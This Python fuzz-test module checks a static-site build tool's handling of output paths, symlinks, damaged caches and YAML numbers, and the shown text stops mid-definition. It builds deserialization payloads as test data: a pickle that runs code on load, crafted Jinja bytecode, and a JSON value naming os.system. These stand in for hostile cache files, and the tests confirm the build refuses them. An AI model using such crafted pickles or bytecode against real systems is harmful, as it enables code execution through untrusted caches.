"""The fuzzer at the edges (issue 25): Hypothesis draws the inputs that once lost files, ran
code or published a wrong number, one class at a time, and checks what must hold:

- output folders: `--out` naming the site, the repository, a folder above either, a folder
  the build reads or one inside it, the home folder, `/`, a file, a folder of the user's, or
  a folder of the build's own, spelled relative, absolute, with `..`, `.`, `//`, a trailing
  slash or through a symlink. Either the build refuses (exit 2, one line) and no file
  anywhere changed, or it builds into a folder of its own and nothing outside it changed.
- symlinks in content/, data/, templates/ and assets/ to a file or folder outside the site,
  inside it, to nothing, or in a loop: never a traceback, nothing from outside the site in
  the output, and a refusal or warning names the link.
- cache files: random bytes, cut short, swapped in from another site, a pickle or template
  bytecode crafted to run code, JSON of the wrong shape, folders, a .cache that is a file:
  exit 0, nothing run, at most one line about the cache, the output a cold build makes.
- numbers in every YAML spelling in every count field: refused at their line, or accepted
  only as plain decimal and published as the number written.
- control characters and formula prefixes in every text field of a report, a page and the
  settings: refused at their line, or every CSV, XML, JSON file and feed parses and no CSV
  cell would run as a formula.

Every run also has the checks of tests/build/test_fuzz.py (`built_copy`): no traceback,
nothing run, nothing written outside the output and .cache/, the last good output untouched
on failure. The output-folder builds run in a process of their own inside a sandbox (a copy
of the repository, the site and a home folder) under a guard that refuses every write outside
it (`sandboxed_builds`): a build that regressed still cannot touch a real file, `/` included.

By default a fixed set of examples runs; HUB_FUZZ_EXAMPLES=N runs N fresh ones for each test,
as in test_fuzz.py. `--hypothesis-show-statistics` shows how many examples each class had.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import inspect
import io
import json
import marshal
import os
import pickle
import re
import select
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import jinja2.bccache
import pytest
import yaml
from hypothesis import event, given
from hypothesis import strategies as st

import build
from tests.build.test_fuzz import (
    GUARD_SECONDS,
    RAN,
    built_copy,
    check_data_files,
    fuzz_settings,
    make_last_good,
    run_build,
    shapes,
)
from tests.conftest import REPO, in_english_only
from tests.support.files import tree

# A stress test of many builds: left out of tests/run --fast, run in full.
pytestmark = pytest.mark.slow


def rotated(items: list, by: int) -> list:
    """Returns `items` starting at `by` (modulo their number)."""
    by %= len(items)
    return items[by:] + items[:by]


def pick(draw, items: list, seed: int, salt: int = 0):
    """Draws one of `items`. Hypothesis tries the first item of a list first, and the default
    run has one or two examples for each parametrized case: so the list starts at a place that
    `seed` (the case's number) and `salt` (which draw) choose, and the cases cover them all."""
    return draw(st.sampled_from(rotated(list(items), seed * (2 * salt + 1) + salt)))


@pytest.fixture(scope="module")
def last_good(tmp_path_factory) -> Path:
    """Returns a copy of the example site with its last good build and cache."""
    return make_last_good(tmp_path_factory.mktemp("edges-site"))


def published(out: Path) -> dict:
    """Returns the output's files, leaving out the build's own marks at its top (dotfiles),
    which are not part of the site."""
    return tree(out, skip=(".*",))


# --- output folders -------------------------------------------------------------------------


def sandboxed_builds(repo: str, box: str) -> None:
    """Runs in a process of its own (its source is sent to `python -c`): builds with the
    repository copy in `repo`, for each request (a JSON line: argv and the folder to run in)
    read from stdin, and writes back a JSON line: the exit status (None after a traceback),
    stdout, stderr, and every write outside `box` that was attempted and refused.

    A guard (an audit hook, which no code in the process can remove) refuses every write,
    rename, deletion and new folder outside `box`, every new process, and every C function
    looked up through ctypes (the atomic folder swap then takes its fallback of two renames,
    which the guard sees)."""
    import contextlib
    import errno
    import io
    import json
    import os
    import sys
    import traceback

    box = os.path.realpath(box)
    refused: list[str] = []
    writing = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
    two_paths = ("os.rename", "os.link", "shutil.move", "shutil.copyfile", "shutil.copytree")
    one_path = ("os.remove", "os.rmdir", "os.mkdir", "os.mkfifo", "os.mknod", "shutil.rmtree")
    changes = ("os.truncate", "os.chmod", "os.chown", "os.utime", "os.setxattr")
    processes = ("subprocess.Popen", "os.system", "os.exec", "os.spawn", "os.posix_spawn")

    def where(path, dir_fd=None, follow=False):
        """Returns the real path that `path` (relative to `dir_fd`) names: its folder's real
        path and its own name, or the real path of what it leads to (`follow`)."""
        path = os.fsdecode(path)
        if isinstance(dir_fd, int) and dir_fd >= 0 and not os.path.isabs(path):
            path = os.path.join(os.readlink(f"/proc/self/fd/{dir_fd}"), path)
        path = os.path.abspath(path)
        if follow:
            return os.path.realpath(path)
        return os.path.join(os.path.realpath(os.path.dirname(path)), os.path.basename(path))

    def inside(path):
        return path == box or path.startswith(box + os.sep) or path == os.devnull

    def guard(name, args):
        if name == "ctypes.dlsym":
            raise AttributeError("the sandbox allows no C functions")
        if name in processes:
            refused.append(f"{name} {args[:2]!r}")
            raise PermissionError(errno.EPERM, "the sandbox runs no processes")
        paths = []
        if name == "open" and not isinstance(args[0], int) and args[2] & writing:
            paths = [where(args[0], follow=True)]
        elif name in two_paths:
            dir_fds = args[2:4] if name in ("os.rename", "os.link") else (None, None)
            paths = [where(p, fd) for p, fd in zip(args[:2], dir_fds) if not isinstance(p, int)]
        elif name == "os.symlink":
            paths = [where(args[1], args[2])]
        elif name in one_path and not isinstance(args[0], int):
            paths = [where(args[0], args[-1] if name != "shutil.rmtree" else None)]
        elif name in changes and not isinstance(args[0], int):
            paths = [where(args[0], follow=True)]
        for path in paths:
            if not inside(path):
                refused.append(f"{name} {path}")
                raise PermissionError(errno.EACCES, "outside the sandbox", path)

    sys.addaudithook(guard)
    sys.path.insert(0, repo)
    import build

    for line in sys.stdin:
        request = json.loads(line)
        os.chdir(request["cwd"])
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                status = build.main(request["argv"])
            except SystemExit as stop:
                status = stop.code if isinstance(stop.code, int) else 1
            except BaseException:
                traceback.print_exc()
                status = None
        reply = {"status": status, "stdout": out.getvalue(), "stderr": err.getvalue()}
        reply["refused"] = refused[:]
        refused.clear()
        os.write(1, json.dumps(reply).encode() + b"\n")


@dataclass(frozen=True)
class Place:
    """A folder or file that `--out` may name: `rel` is its path from the sandbox's live
    folder; `expect` is "refuse", "build" or "either"; an `outer` place lies outside the
    sandbox (the guard keeps the build from writing there), so the test first checks, without
    running a build, that the arguments are refused."""

    name: str
    rel: str
    expect: str
    outer: bool = False


PLACES = [
    Place("the site", "site", "refuse"),
    Place("the repository", "repo", "refuse"),
    Place("their parent", ".", "refuse"),
    Place("the folder above that", "..", "refuse"),
    Place("a folder further up", "../..", "refuse", outer=True),
    Place("the root folder", "/", "refuse", outer=True),
    Place("content", "site/content", "refuse"),
    Place("data", "site/data", "refuse"),
    Place("the cache", "site/.cache", "refuse"),
    Place("the site's templates (none yet)", "site/templates", "refuse"),
    Place("the site's assets (none yet)", "site/assets", "refuse"),
    Place("templates", "repo/templates", "refuse"),
    Place("assets", "repo/assets", "refuse"),
    Place("the repository's content", "repo/content", "refuse"),
    Place("the code", "repo/hub", "refuse"),
    Place("a folder in content", "site/content/guidance", "refuse"),
    Place("a folder in data", "site/data/patrols", "refuse"),
    Place("a folder in templates", "repo/templates/layouts", "refuse"),
    Place("a folder in assets", "repo/assets/css", "refuse"),
    Place("a new folder in the cache", "site/.cache/new", "refuse"),
    Place("a new folder in content", "site/content/new", "refuse"),
    Place("the home folder", "home", "refuse"),
    Place("a file", "repo/README.md", "refuse"),
    Place("a data file", "site/data/site.yaml", "refuse"),
    Place("a folder of the user's", "user", "refuse"),
    Place("the user's .public.old beside the output", "site/.public.old", "refuse"),
    Place("the build's own output", "site/public", "build"),
    Place("another output of the build's", "built", "build"),
    Place("a new folder", "site/new-out", "build"),
    Place("a new folder in new folders", "new/deep/out", "build"),
    Place("a new folder in the home folder", "home/site-out", "build"),
    Place("an empty folder", "empty", "either"),
]
# Folders and files of the user's: no build may change them, whatever it is asked.
USERS = ("site/.public.old", "home/notes.txt", "user", "repo/README.md")
CWDS = (".", "site", "repo", "home", "site/content")
REPO_PARTS = ("build.py", "hub", "templates", "assets", "content", "data", "README.md")


def remove(path: Path) -> None:
    """Deletes the file, symlink or folder at `path`, if there is one."""
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.is_symlink() or path.exists():
        path.unlink()


def slug(text: str) -> str:
    """Returns `text` as a file name: lower case, words joined by -."""
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


class Sandbox:
    """A folder `box` holding `live`: a copy of the repository (repo/), the example site
    built into its public/ (site/), a second output of the build's (built/), a home folder
    (home/), a folder of the user's (user/), an empty folder, and a symlink in links/ to
    every place; and a worker process that runs builds in it under the guard. `pristine`
    (outside the box) is a copy to put the box back from after a build changed it."""

    def __init__(self, base: Path):
        self.base = base
        self.box = base / "box"
        self.live = self.box / "live"
        self.pristine = base / "pristine"
        self.worker: subprocess.Popen | None = None
        self.lay_out()
        shutil.copytree(self.box, self.pristine, symlinks=True)
        self.snapshot = self.state()
        self.reference = published(self.pristine / "live" / "site" / "public")

    def path(self, place: Place) -> Path:
        """Returns the absolute path of `place`, `..` resolved."""
        return Path(os.path.normpath(self.live / place.rel))

    def link(self, place: Place) -> Path:
        """Returns the path of the symlink to `place`."""
        return self.live / "links" / slug(place.name)

    def start_worker(self) -> None:
        repo = self.live / "repo"
        source = inspect.getsource(sandboxed_builds)
        self.worker = subprocess.Popen(
            [sys.executable, "-c", f"{source}\nsandboxed_builds({str(repo)!r}, {str(self.box)!r})"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=self.box,
            env={
                **os.environ,
                "HOME": str(self.live / "home"),
                "XDG_CACHE_HOME": str(self.box / "xdg"),
                "PYTHONDONTWRITEBYTECODE": "1",
            },
        )

    def run(self, argv: list[str], cwd: Path) -> dict:
        """Returns the worker's reply to one build (see `sandboxed_builds`); a build that takes
        longer than GUARD_SECONDS fails the test, and the worker is started again."""
        if self.worker.poll() is not None:
            self.start_worker()
        request = json.dumps({"argv": argv, "cwd": str(cwd)}).encode() + b"\n"
        self.worker.stdin.write(request)
        self.worker.stdin.flush()
        ready, _, _ = select.select([self.worker.stdout], [], [], GUARD_SECONDS)
        if not ready:
            self.worker.kill()
            self.worker.wait()
            raise AssertionError(f"the build took more than {GUARD_SECONDS} s: {argv}")
        line = self.worker.stdout.readline()
        assert line, "the sandbox's worker stopped"
        return json.loads(line)

    def lay_out(self) -> None:
        live = self.live
        (live / "repo").mkdir(parents=True)
        for part in REPO_PARTS:
            source, copy = REPO / part, live / "repo" / part
            if source.is_dir():
                shutil.copytree(source, copy, ignore=shutil.ignore_patterns("__pycache__"))
            else:
                shutil.copy2(source, copy)
        # Decap's files, which the build copies into /admin/: read only, and the guard refuses
        # any write through this link.
        (live / "repo" / "node_modules").symlink_to(REPO / "node_modules")
        for folder in ("content", "data"):
            shutil.copytree(REPO / folder, live / "site" / folder)
        self.start_worker()
        for out in (None, live / "built"):
            argv = ["build", "--site", str(live / "site"), "--no-search"]
            reply = self.run(argv + (["--out", str(out)] if out else []), live)
            assert reply["status"] == 0 and not reply["refused"], reply
        (live / "home").mkdir()
        (live / "home" / "notes.txt").write_text("the user's own notes\n")
        (live / "user" / "photos").mkdir(parents=True)
        (live / "user" / "photos" / "a.txt").write_text("a photo\n")
        (live / "empty").mkdir()
        # Made after the builds: the build must keep it, not take it for a leftover of its own.
        (live / "site" / ".public.old").mkdir()
        (live / "site" / ".public.old" / "keep.txt").write_text("kept by the user\n")
        (live / "links").mkdir()
        for place in PLACES:
            self.link(place).symlink_to(self.path(place))

    def state(self) -> dict:
        """Returns the shape of everything in the box but the user's cache folder (xdg/)."""
        return shapes(self.box, skip=("xdg",))

    def restore(self) -> None:
        """Puts the box back as it was laid out, where a build changed it."""
        now = self.state()
        if now == self.snapshot:
            return
        for rel in sorted(now.keys() - self.snapshot.keys(), reverse=True):
            remove(self.box / rel)
        for rel, was in self.snapshot.items():  # folders before what they hold
            if rel in now and now[rel] == was:
                continue
            path, kept = self.box / rel, self.pristine / rel
            remove(path)
            if kept.is_symlink():
                path.symlink_to(os.readlink(kept))
            elif kept.is_dir():
                path.mkdir()
            else:
                shutil.copy2(kept, path)
        assert self.state() == self.snapshot

    def close(self) -> None:
        self.worker.stdin.close()
        self.worker.wait(timeout=GUARD_SECONDS)


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory):
    box = Sandbox(tmp_path_factory.mktemp("edges"))
    yield box
    box.close()


def detour(text: str, cwd: Path, via: str | None) -> tuple[str, Path]:
    """Returns (the path `text` with a step into `via` and back out (`via/..`) before its last
    part, the folder `via` is looked up in)."""
    stripped = text.rstrip("/")
    if text and not stripped:  # the root folder
        return f"/{via}/..", Path("/")
    head, slash, name = stripped.rpartition("/")
    return f"{head}{slash}{via}/../{name}", Path(cwd, head + slash)


@st.composite
def out_argument(draw, sandbox: Sandbox, place: Place) -> tuple[str, Path, bool]:
    """Returns (an --out argument naming `place`, the folder to run the build in, whether the
    argument leads through a symlink): relative or absolute, through the place's symlink or
    not, with a detour through a folder and `..`, a `.` or `//` step, or a symlink to a folder
    inside the place and `..`; with a trailing slash or not."""
    seed = PLACES.index(place)
    target = sandbox.path(place)
    linked = pick(draw, [False, True], seed, 1)
    path = sandbox.link(place) if linked else target
    cwd = sandbox.live / pick(draw, CWDS, seed, 2)
    text = pick(draw, [str(path), os.path.relpath(path, cwd)], seed, 3)
    if text == ".":
        text = pick(draw, [".", "", "./"], seed, 4)
    children = [  # places inside this one: `their symlink/..` is this place
        other for other in PLACES if other.rel != "/" and sandbox.path(other).parent == target
    ]
    step = pick(draw, ["none", "detour", "dot", "double slash", "symlink and up"], seed, 5)
    if step == "detour" and text:
        folder = detour(text, cwd, None)[1]
        real = sorted(p.name for p in folder.glob("*") if p.is_dir() and not p.is_symlink())
        text = detour(text, cwd, draw(st.sampled_from([*real[:5], "no-such-folder"])))[0]
    elif step in ("dot", "double slash") and text:
        parts = text.split("/")
        at = draw(st.integers(min_value=1, max_value=len(parts)))
        text = "/".join(parts[:at] + ["." if step == "dot" else ""] + parts[at:])
    elif step == "symlink and up" and children:
        text = f"{sandbox.link(draw(st.sampled_from(children)))}/.."
        linked = True
    else:
        step = "none"
    if pick(draw, [False, True], seed, 6) and text and not text.endswith("/"):
        text += "/"
    spelled = "absolute" if text.startswith("/") else "relative"
    ending = ", a trailing /" if text.endswith("/") and text.strip("/") else ""
    event(f"out: {spelled}, {'through a symlink' if linked else 'itself'}, {step}{ending}")
    assert os.path.realpath(os.path.join(cwd, text)) == os.path.realpath(target), text
    return text, cwd, linked


def reason_lines(stderr: str) -> list[str]:
    """Returns what stderr says besides argparse's usage lines."""
    lines = stderr.rstrip("\n").split("\n")
    if lines[0].startswith("usage:"):
        lines = lines[1:]
        while lines and lines[0].startswith(" "):
            lines = lines[1:]
    return lines


def check_refused_dry(argv: list[str], cwd: Path) -> None:
    """Checks that the arguments are refused as a usage error without building: the command
    line is only parsed, here, in this process."""
    before = os.getcwd()
    os.chdir(cwd)
    try:
        with contextlib.redirect_stderr(io.StringIO()), pytest.raises(SystemExit) as stop:
            build.parse_args(argv)
    finally:
        os.chdir(before)
    assert stop.value.code == 2, f"{argv} is not refused when the command line is read"


def changed(before: dict, after: dict) -> set[str]:
    """Returns the paths that differ between two `shapes`."""
    return {rel for rel in before.keys() | after.keys() if before.get(rel) != after.get(rel)}


def check_built_into(sandbox: Sandbox, target: Path, before: dict, after: dict) -> None:
    """Checks a build that succeeded: into `target`, a folder that was not there, was empty or
    was the build's own, holding the whole site; outside it only the cache, the build's own
    spare copies beside it and new folders above it changed."""
    rel = target.relative_to(sandbox.box).as_posix()
    kind = before.get(rel, "nothing")
    assert kind in ("nothing", "folder"), f"built over {rel}, which was {kind!r}"
    was_empty = not any(path.startswith(rel + "/") for path in before)
    was_own = rel in ("live/site/public", "live/built")
    assert was_empty or was_own, f"built over {rel}, a folder that is not the build's own"
    assert published(target) == sandbox.reference
    check_data_files(target)
    above = {parent.as_posix() for parent in Path(rel).parents}
    users = tuple(f"live/{user}" for user in USERS)
    for path in changed(before, after):
        ours = (
            path == rel
            or path.startswith((rel + "/", "live/site/.cache/"))
            or path == "live/site/.cache"
            or (path in above and path not in before)
            or path.startswith(f"{Path(rel).parent.as_posix()}/.{target.name}.")
        )
        assert ours and not path.startswith(users), f"the build changed {path}"


@pytest.mark.parametrize("place", PLACES, ids=[slug(p.name) for p in PLACES])
@fuzz_settings(2)
@given(data=st.data())
def test_an_output_folder_is_refused_or_only_ever_the_builds_own(sandbox, place, data):
    sandbox.restore()
    text, cwd, linked = data.draw(out_argument(sandbox, place))
    argv = ["build", "--site", str(sandbox.live / "site"), "--no-search", "--out", text]
    if place.outer:
        check_refused_dry(argv, cwd)  # only then is a build run at all
    outside = [sorted(os.listdir(folder)) for folder in (sandbox.base, "/") if place.outer]
    before = sandbox.state()

    reply = sandbox.run(argv, cwd)

    after = sandbox.state()
    event(f"out: exit {reply['status']}")
    assert reply["status"] in (0, 2), reply["stderr"]
    assert "Traceback" not in reply["stderr"], reply["stderr"]
    assert not reply["refused"], f"the build wrote outside the sandbox: {reply['refused']}"
    assert [sorted(os.listdir(folder)) for folder in (sandbox.base, "/") if place.outer] == outside
    if reply["status"] == 2:
        assert len(reason_lines(reply["stderr"])) == 1, reply["stderr"]
        assert after == before, f"refused, yet changed {sorted(changed(before, after))}"
        assert place.expect != "build" or linked, f"{text} is refused: {reply['stderr']}"
    else:
        assert place.expect != "refuse", f"built into {place.name}: {text}"
        check_built_into(sandbox, Path(os.path.realpath(sandbox.path(place))), before, after)


# --- symlinks --------------------------------------------------------------------------------

TOKEN = "SECRET-a1b2c3d4e5"  # the bytes of every file outside the site that a link leads to


def secret_page() -> str:
    text = (REPO / "content" / "guidance" / "what-is-asb.en.md").read_text(encoding="utf-8")
    text = re.sub(r"(?m)^title: .*$", f"title: {TOKEN} page", text, count=1)
    return text + f"\n{TOKEN} in the text.\n"


def secret_report() -> str:
    text = (REPO / "data" / "patrols" / "2024-11.en.yaml").read_text(encoding="utf-8")
    text = text.replace('month: "2024-11"', 'month: "2025-01"')
    text = text.replace('published: "2024-12"', 'published: "2025-02"')
    return re.sub(r"(?m)^(title|summary): .*$", rf"\1: {TOKEN} report", text)


def secret_summary() -> str:
    text = (REPO / "data" / "patrols" / "summaries" / "year-to-2024-10.en.yaml").read_text(
        encoding="utf-8"
    )
    text = text.replace('ends: "2024-10"', 'ends: "2025-01"').replace('"2024-10"', '"2025-02"')
    return re.sub(r"(?m)^(title|summary|period): .*$", rf"\1: {TOKEN} summary", text)


def secret_figures() -> str:
    text = (REPO / "data" / "figures.yaml").read_text(encoding="utf-8")
    return re.sub(r"(?m)^(    label: ).*$", rf"\1{TOKEN}", text, count=1)


def secret_layout() -> str:
    text = (REPO / "templates" / "layouts" / "page.html").read_text(encoding="utf-8")
    return text.replace("{% block content %}", "{% block content %}" + TOKEN, 1)


def secret_svg() -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><title>{TOKEN}</title></svg>\n'


@dataclass(frozen=True)
class LinkPlace:
    """Where a link goes in a tree of the site: in place of a file (`file`), and of a folder
    (`folder`), with functions that return what a secret file outside the site holds there
    (`file_secret`), and in the folder the folder link leads to (`inner`, `inner_secret`)."""

    tree: str
    file: str
    file_secret: Callable[[], str]
    folder: str
    inner: str
    inner_secret: Callable[[], str]


LINK_PLACES = [
    LinkPlace(
        "content",
        "content/guidance/linked.en.md",
        secret_page,
        "content/guidance",
        "secret.en.md",
        secret_page,
    ),
    LinkPlace(
        "data",
        "data/patrols/2025-01.en.yaml",
        secret_report,
        "data/patrols",
        "2025-01.en.yaml",
        secret_report,
    ),
    LinkPlace(
        "data settings",
        "data/figures.yaml",
        secret_figures,
        "data/patrols/summaries",
        "year-to-2025-01.en.yaml",
        secret_summary,
    ),
    LinkPlace(
        "templates",
        "templates/layouts/page.html",
        secret_layout,
        "templates/layouts",
        "page.html",
        secret_layout,
    ),
    LinkPlace(
        "assets", "assets/images/linked.svg", secret_svg, "assets/more", "secret.svg", secret_svg
    ),
]
LINK_KINDS = [
    "file outside",
    "folder outside",
    "file inside",
    "folder inside",
    "dangling",
    "loop of two",
    "loop to itself",
    "folder loop",
]
OUTSIDE = ("file outside", "folder outside")


def make_link(site: Path, kind: str, where: LinkPlace) -> str:
    """Makes a link of `kind` at `where` in `site`, in place of what is there, and what it
    leads to; returns the link's path in the site. A folder outside the site holds what the
    folder it replaces held, and a secret file."""
    secrets = site.parent / "secrets"
    secrets.mkdir(exist_ok=True)
    rel = where.folder if "folder" in kind else where.file
    link = site / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    outside = secrets / link.name
    if kind == "folder outside":
        if link.is_dir():
            shutil.move(link, outside)
        else:
            outside.mkdir()
        (outside / where.inner).write_text(where.inner_secret(), encoding="utf-8")
    else:
        remove(link)
    if kind in OUTSIDE:
        if kind == "file outside":
            outside.write_text(where.file_secret(), encoding="utf-8")
        link.symlink_to(outside)
    elif kind == "file inside":
        other = site / "content" / "pages" / "cookies.en.md"
        if where.tree.startswith("data"):
            other = site / "data" / "patrols" / "2024-11.en.yaml"
        link.symlink_to(os.path.relpath(other, link.parent))
    elif kind == "folder inside":
        link.symlink_to(os.path.relpath(site / "content" / "pages", link.parent))
    elif kind == "dangling":
        link.symlink_to(secrets / "gone")
    elif kind == "loop of two":
        link.symlink_to(link.with_name("other-" + link.name))
        link.with_name("other-" + link.name).symlink_to(link.name)
    elif kind == "loop to itself":
        link.symlink_to(link.name)
    else:  # a folder that leads to the folder holding it
        link.symlink_to(".")
    return rel


# A link out of the site in each tree; the other kinds in a tree that each case draws.
LINK_CASES = [(kind, where.tree) for kind in OUTSIDE for where in LINK_PLACES] + [
    (kind, None) for kind in LINK_KINDS if kind not in OUTSIDE
]


@pytest.mark.parametrize("kind, tree", LINK_CASES)
@fuzz_settings(1)
@given(data=st.data())
def test_a_symlink_never_publishes_what_lies_outside_the_site(last_good, kind, tree, data):
    trees = [where for where in LINK_PLACES if tree in (None, where.tree)]
    where = pick(data.draw, trees, LINK_KINDS.index(kind))
    event(f"symlink: {kind} in {where.tree}")
    made = []

    def edit(site: Path) -> None:
        made.append(make_link(site, kind, where))

    with built_copy(last_good, edit, compare_cold=False) as built:
        rel = made[0]
        if built.status == 0:
            found = [
                path.relative_to(built.out).as_posix()
                for path in built.out.rglob("*")
                if path.is_file() and TOKEN.encode() in path.read_bytes()
            ]
            assert not found, f"the output holds what {rel} leads to: {found}"
        if kind in OUTSIDE or built.status == 1:
            assert rel in built.errors, f"nothing names {rel}: {built.errors!r}"


# --- cache files -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def cached_sites(tmp_path_factory):
    """Returns (a copy of the example site with its build and cache, the cache of a build of
    another site, a folder for the user's cache folder)."""
    base = tmp_path_factory.mktemp("cache")
    site = make_last_good(base / "site")
    other = in_english_only(make_last_good(base / "other"))
    settings = other / "data" / "site.yaml"
    settings.write_text(settings.read_text().replace("Derbyshire ASB Hub", "Another Hub"))
    status, errors = run_build(other)
    assert status == 0, errors
    return site, other / ".cache", base / "user-cache"


@contextlib.contextmanager
def user_cache(folder: Path):
    """Points XDG_CACHE_HOME at `folder`, emptied, for the block."""
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    before = os.environ.get("XDG_CACHE_HOME")
    os.environ["XDG_CACHE_HOME"] = str(folder)
    try:
        yield
    finally:
        if before is None:
            del os.environ["XDG_CACHE_HOME"]
        else:
            os.environ["XDG_CACHE_HOME"] = before


class RunsOnLoad:
    """Pickles as a call that makes RAN: a cache file that runs code when it is read."""

    def __reduce__(self):
        return (open, (str(RAN), "w"))


def plant_bytecode(folder: Path, pickled: bool) -> None:
    """Writes into `folder` a Jinja bytecode cache file for every template of the repository,
    named and checksummed as Jinja's own file cache would (so that a build that read one
    would take it for its template's): a pickle that makes RAN where the checksum belongs,
    or the right checksum and then code that makes RAN."""
    folder.mkdir(parents=True, exist_ok=True)
    code = marshal.dumps(compile(f"open({str(RAN)!r}, 'w')", "crafted", "exec"))
    for path in sorted((REPO / "templates").rglob("*.*")):
        name = path.relative_to(REPO / "templates").as_posix()
        key = hashlib.sha1(f"{name}|{path}".encode()).hexdigest()
        checksum = hashlib.sha1(path.read_bytes()).hexdigest()
        body = pickle.dumps(RunsOnLoad()) if pickled else pickle.dumps(checksum, 2) + code
        (folder / f"__jinja2_{key}.cache").write_bytes(jinja2.bccache.bc_magic + body)


WRONG_JSON = [
    "[]",
    "{}",
    "null",
    "0",
    '"text"',
    '{"format": 999}',
    '{"format": 5, "site": "https://asb-hub.example.org", "name": "hashes", "value": [[]]}',
    "[" * 100_000 + "]" * 100_000,
    "1e999",
    "NaN",
    '{"__class__": "os.system", "args": ["true"]}',
]
CACHE_KINDS = [
    "random bytes",
    "cut short",
    "from another site",
    "crafted pickle",
    "crafted template bytecode",
    "JSON of the wrong shape",
    "empty files",
    "folders in place of files",
    "one file removed",
    "a plain file",
]


@st.composite
def cache_damage(draw, kind: str):
    """Returns a function that damages the nth file of a site's .cache/ as `kind` says (None
    for the kinds that damage the folder as a whole)."""
    if kind == "random bytes":
        noise = draw(st.lists(st.binary(min_size=1, max_size=200), min_size=1, max_size=5))
        return lambda path, n: path.write_bytes(noise[n % len(noise)])
    if kind == "cut short":
        share = draw(st.integers(min_value=1, max_value=99)) / 100
        return lambda path, _: path.write_bytes(
            path.read_bytes()[: int(path.stat().st_size * share)]
        )
    if kind == "JSON of the wrong shape":  # a different one in each file
        start = draw(st.integers(min_value=0, max_value=len(WRONG_JSON) - 1))
        return lambda path, n: path.write_text(WRONG_JSON[(start + n) % len(WRONG_JSON)])
    if kind == "empty files":
        return lambda path, _: path.write_bytes(b"")
    if kind == "crafted pickle":
        return lambda path, _: path.write_bytes(pickle.dumps(RunsOnLoad()))
    if kind == "folders in place of files":

        def folder(path: Path, _) -> None:
            path.unlink()
            path.mkdir()

        return folder
    return None


def damage_cache(site: Path, kind: str, damage, other_cache: Path, pick: int, users: Path):
    """Damages the .cache/ of `site` as `kind` says, with `damage` on each of its files; for
    the crafted kinds, plants template bytecode there and in the user's cache folder `users`
    too (Netlify keeps both between builds)."""
    cache = site / ".cache"
    files = sorted(path for path in cache.rglob("*") if path.is_file())
    event(f"cache: {kind}, {len(files)} files")
    if kind == "from another site":
        shutil.rmtree(cache)
        shutil.copytree(other_cache, cache)
    elif kind == "crafted template bytecode":
        shutil.rmtree(cache)  # so that the build renders every template, not that it may skip
    elif kind == "a plain file":
        shutil.rmtree(cache)
        cache.write_bytes(b"not a folder\n")
    elif kind == "one file removed":
        files[pick % len(files)].unlink()
    elif damage:
        for n, path in enumerate(files):
            damage(path, n)
    if kind.startswith("crafted"):
        for folder in (cache / "templates", users / "asb-hub" / "templates"):
            plant_bytecode(folder, pickled=kind == "crafted pickle")


@pytest.mark.parametrize("kind", CACHE_KINDS)
@fuzz_settings(1)
@given(data=st.data())
def test_a_damaged_or_hostile_cache_runs_nothing_and_changes_nothing(cached_sites, kind, data):
    site, other_cache, users = cached_sites
    damage = data.draw(cache_damage(kind))
    pick = data.draw(st.integers(min_value=0, max_value=99))

    def edit(copy: Path) -> None:
        damage_cache(copy, kind, damage, other_cache, pick, users)

    with user_cache(users), built_copy(site, edit, compare_cold=False) as built:
        assert built.status == 0, built.errors
        notes = [line for line in built.errors.splitlines() if line.strip()]
        assert len(notes) <= 1 and all("cache" in line for line in notes), built.errors
        assert published(built.out) == published(site / "public")


# --- numbers ---------------------------------------------------------------------------------

COUNT_KEYS = (
    "value",
    "stated",
    "opening_balance",
    "threshold_complaints",
    "threshold_months",
    "news_per_page",
    "order",
)
KEYED = re.compile(r"^(?P<lead>\s*(?:- )?)(?P<key>[a-z_]+):(?P<value>\s.*)?$")


def front_matter_end(rel: str) -> int:
    """Returns the number of the line that ends a page's front matter (its second ---)."""
    return (REPO / rel).read_text(encoding="utf-8").split("\n").index("---", 1) + 1


def keyed_lines(rel: str) -> list[tuple[int, str | None, str, str]]:
    """Returns (line number, the top-level key it is under, its key, its value without a
    comment) of each `key: value` line of a YAML file or a page's front matter."""
    found = []
    section = None
    lines = (REPO / rel).read_text(encoding="utf-8").split("\n")
    if rel.endswith(".md"):
        lines = lines[: front_matter_end(rel)]
    for number, line in enumerate(lines, start=1):
        match = KEYED.match(line)
        if not match:
            continue
        value = re.sub(r"\s+#.*$", "", (match.group("value") or "").strip())
        if not match.group("lead"):
            section = match.group("key") if not value else None
        found.append((number, section, match.group("key"), value))
    return found


def all_lines() -> list[tuple[str, int, str | None, str, str]]:
    """Returns (file, *keyed_lines) for every line of the example site's pages and data, as
    the worktree holds them when the tests start."""
    return [
        (path.relative_to(REPO).as_posix(), *line)
        for folder in ("content", "data")
        for path in sorted((REPO / folder).rglob("*"))
        if path.suffix in (".md", ".yaml")
        for line in keyed_lines(path.relative_to(REPO).as_posix())
    ]


# The counts whose Field is not required (a running total's figures, a setting with a default):
# for these, null or nothing is the same as leaving the line out.
MAY_BE_LEFT_OUT = {"stated", "opening_balance", "news_per_page"}
COUNTS = [
    (rel, number, key, value)
    for rel, number, _, key, value in all_lines()
    if key in COUNT_KEYS and value.isdigit()
]


def set_value(site: Path, rel: str, number: int, value: bytes) -> None:
    """Replaces the value on line `number` of `rel` (and any comment after it)."""
    path = site / rel
    lines = path.read_bytes().split(b"\n")
    key = lines[number - 1].split(b":", 1)[0]
    lines[number - 1] = key + b": " + value
    path.write_bytes(b"\n".join(lines))


def thousands(n: int) -> str:
    """Returns `n` with _ between groups of three digits (or after its first digit)."""
    grouped = f"{n:_}"
    return grouped if "_" in grouped else f"{str(n)[0]}_{str(n)[1:]}".rstrip("_")


# Each spelling of a number N a count field held: a function of N, or text of its own.
SPELLINGS = {
    "plain": str,
    "a leading zero": lambda n: f"0{n}",
